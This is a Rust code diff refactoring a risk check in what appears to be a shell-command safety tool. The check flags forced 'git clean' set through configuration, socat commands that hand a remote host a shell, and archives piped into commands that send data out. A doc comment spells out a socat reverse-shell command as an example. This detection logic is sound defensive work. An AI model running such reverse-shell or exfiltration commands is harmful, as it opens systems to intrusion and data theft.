@@ -4,36 +4,23 @@ use super::CommandCall;
 use crate::command::{Item, Simple, Usage};
 use crate::programs::{Quirk, Role};
 
-impl CommandCall<'_, '_> {
-    /// What makes a command ask in every mode although none of its words alone does.
-    pub(crate) fn risk(&self, simple: &Simple<'_>, usage: &Usage) -> Option<&'static str> {
-        if usage.has(Quirk::Git) && usage.path.get(1) == Some(&"clean") {
-            return forces_clean(simple, usage).then_some("git clean -f *");
-        }
-        if usage.plays(Role::ConnectsCommands) {
-            return gives_a_shell(simple).then_some("socat EXEC:*");
-        }
-        (sends_input(simple, usage) && self.is_fed_by_archive(simple)).then_some("sends an archive")
+/// What makes a command ask in every mode although none of its words alone does.
+pub(super) fn risk(call: &CommandCall<'_, '_>, simple: &Simple<'_>, usage: &Usage) -> Option<&'static str> {
+    if usage.has(Quirk::Git) && usage.path.get(1) == Some(&"clean") {
+        return forces_clean(simple, usage).then_some("git clean -f *");
     }
-
-    /// Whether what a command reads on its input is a whole tree, a dump or the environment.
-    fn is_fed_by_archive(&self, simple: &Simple<'_>) -> bool {
-        let before = |at: &usize| self.commands.simples.get(*at).and_then(|one| one.fed_by).filter(|next| next < at);
-        // Compressors and encoders may stand between.
-        let mut feeders = std::iter::successors(simple.fed_by, before);
-        feeders.any(|at| {
-            // Of a long pipeline each would go through all before it.
-            self.budget.spend(1).is_err()
-                || self.usages.get(at).zip(self.commands.simples.get(at)).is_some_and(|(usage, one)| packs(one, usage))
-        })
+    if usage.plays(Role::ConnectsCommands) {
+        return gives_a_shell(simple).then_some("socat EXEC:*");
     }
+    // Compressors and encoders may stand between.
+    (sends_input(simple, usage) && call.any_before(simple, packs)).then_some("sends an archive")
 }
 
 /// `git -c clean.requireForce=false clean`: the setting replaces the option.
 fn forces_clean(simple: &Simple<'_>, usage: &Usage) -> bool {
     let dry = usage.options.iter().any(|used| matches!(used.key.as_ref(), "-n" | "--dry-run"));
     let sets = |item: &Item<'_>| {
-        let shown = item.shown().likely();
+        let shown = item.shown();
         let (name, value) = shown.split_once('=').unwrap_or((shown, ""));
         let name = name.trim_start_matches("-c").trim_start_matches("--config-env");
         name.eq_ignore_ascii_case("clean.requireForce") && !matches!(value.to_ascii_lowercase().as_str(), "true" | "1")
@@ -45,7 +32,7 @@ fn forces_clean(simple: &Simple<'_>, usage: &Usage) -> bool {
 
 /// `socat TCP:host:1 EXEC:/bin/sh`: another machine gets a program to talk to.
 fn gives_a_shell(simple: &Simple<'_>) -> bool {
-    let kind = |item: &Item<'_>| item.shown().likely().split([':', ',']).next().unwrap_or("").to_ascii_uppercase();
+    let kind = |item: &Item<'_>| item.shown().split([':', ',']).next().unwrap_or("").to_ascii_uppercase();
     simple.items.iter().skip(1).any(|item| matches!(kind(item).as_str(), "EXEC" | "SYSTEM" | "SHELL"))
 }
 
